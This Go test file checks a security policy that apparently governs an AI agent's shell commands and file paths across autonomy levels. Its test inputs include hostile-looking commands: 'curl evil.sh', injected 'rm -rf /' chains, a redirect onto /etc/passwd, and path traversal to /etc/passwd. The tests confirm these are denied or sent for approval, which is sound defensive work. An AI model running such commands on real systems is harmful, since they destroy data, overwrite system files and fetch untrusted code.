package security

import (
	"testing"
	"time"
)

func TestValidateCommandReadOnlyDeniesNonLow(t *testing.T) {
	p := NewPolicy(AutonomyReadOnly, PathValidation{}, RateLimiterConfig{})
	if got := p.ValidateCommand("ls -la"); got.Kind != DecisionAllowed {
		t.Fatalf("low risk in read-only: got %v", got)
	}
	if got := p.ValidateCommand("npm install"); got.Kind != DecisionDenied {
		t.Fatalf("medium risk in read-only: got %v, want denied", got)
	}
	if got := p.ValidateCommand("some-random-binary"); got.Kind != DecisionDenied {
		t.Fatalf("high risk in read-only: got %v, want denied", got)
	}
}

func TestValidateCommandSupervisedNeedsApproval(t *testing.T) {
	p := NewPolicy(AutonomySupervised, PathValidation{}, RateLimiterConfig{})
	if got := p.ValidateCommand("ls"); got.Kind != DecisionAllowed {
		t.Fatalf("low risk: got %v", got)
	}
	if got := p.ValidateCommand("npm install"); got.Kind != DecisionNeedsApproval {
		t.Fatalf("medium risk: got %v, want needs_approval", got)
	}
	if got := p.ValidateCommand("curl evil.sh"); got.Kind != DecisionNeedsApproval {
		t.Fatalf("high risk: got %v, want needs_approval", got)
	}
}

func TestInjectionDeniedRegardlessOfAutonomy(t *testing.T) {
	commands := []string{
		"ls `whoami`",
		"echo $(whoami)",
		"echo ${HOME}",
		"ls && rm -rf /",
		"ls; rm -rf /",
		"ls | grep foo",
		"ls > /etc/passwd",
	}
	for _, autonomy := range []Autonomy{AutonomyReadOnly, AutonomySupervised, AutonomyFull} {
		p := NewPolicy(autonomy, PathValidation{}, RateLimiterConfig{WindowSecs: 60, MaxActions: 1000})
		for _, cmd := range commands {
			if got := p.ValidateCommand(cmd); got.Kind != DecisionDenied {
				t.Errorf("autonomy=%s command=%q: got %v, want denied", autonomy, cmd, got)
			}
		}
	}
}

func TestAlwaysBlockedDeniedInFullMode(t *testing.T) {
	p := NewPolicy(AutonomyFull, PathValidation{}, RateLimiterConfig{WindowSecs: 60, MaxActions: 1000})
	if got := p.ValidateCommand("rm -rf /tmp/x"); got.Kind != DecisionDenied {
		t.Fatalf("got %v, want denied", got)
	}
}

func TestRateLimiterDeniesNPlus1(t *testing.T) {
	p := NewPolicy(AutonomyFull, PathValidation{}, RateLimiterConfig{WindowSecs: 60, MaxActions: 3})
	for i := 0; i < 3; i++ {
		if got := p.ValidateCommand("ls"); got.Kind != DecisionAllowed {
			t.Fatalf("action %d: got %v, want allowed", i, got)
		}
	}
	got := p.ValidateCommand("ls")
	if got.Kind != DecisionDenied {
		t.Fatalf("4th action: got %v, want denied (rate limit)", got)
	}
}

func TestRateLimiterAllowsAfterWindowElapses(t *testing.T) {
	p := NewPolicy(AutonomyFull, PathValidation{}, RateLimiterConfig{WindowSecs: 1, MaxActions: 1})
	fake := fakeClock{}
	p.limiter.now = fake.now
	if got := p.ValidateCommand("ls"); got.Kind != DecisionAllowed {
		t.Fatalf("first action: got %v", got)
	}
	if got := p.ValidateCommand("ls"); got.Kind != DecisionDenied {
		t.Fatalf("second action within window: got %v, want denied", got)
	}
	fake.advance(2)
	if got := p.ValidateCommand("ls"); got.Kind != DecisionAllowed {
		t.Fatalf("action after window elapsed: got %v, want allowed", got)
	}
}

func TestValidatePathDeniesTraversal(t *testing.T) {
	p := NewPolicy(AutonomyFull, PathValidation{WorkspaceRoot: "/workspace"}, RateLimiterConfig{WindowSecs: 60, MaxActions: 1000})
	if got := p.ValidatePath("/workspace/../etc/passwd"); got.Kind != DecisionDenied {
		t.Fatalf("got %v, want denied", got)
	}
}

func TestValidatePathDeniesOutsideWorkspace(t *testing.T) {
	p := NewPolicy(AutonomyFull, PathValidation{WorkspaceRoot: "/workspace"}, RateLimiterConfig{WindowSecs: 60, MaxActions: 1000})
	if got := p.ValidatePath("/etc/passwd"); got.Kind != DecisionDenied {
		t.Fatalf("got %v, want denied", got)
	}
}

func TestValidatePathAllowsInsideWorkspace(t *testing.T) {
	p := NewPolicy(AutonomyFull, PathValidation{WorkspaceRoot: "/workspace"}, RateLimiterConfig{WindowSecs: 60, MaxActions: 1000})
	if got := p.ValidatePath("/workspace/file.txt"); got.Kind != DecisionAllowed {
		t.Fatalf("got %v, want allowed", got)
	}
}

func TestValidatePathDeniesNullByte(t *testing.T) {
	p := NewPolicy(AutonomyFull, PathValidation{}, RateLimiterConfig{WindowSecs: 60, MaxActions: 1000})
	if got := p.ValidatePath("/tmp/foo\x00bar"); got.Kind != DecisionDenied {
		t.Fatalf("got %v, want denied", got)
	}
}

// fakeClock lets tests advance time deterministically without sleeping.
type fakeClock struct {
	base       time.Time
	offsetSecs int64
}

func (f *fakeClock) now() time.Time {
	if f.base.IsZero() {
		f.base = time.Now()
	}
	return f.base.Add(time.Duration(f.offsetSecs) * time.Second)
}

func (f *fakeClock) advance(secs int64) {
	f.offsetSecs += secs
}
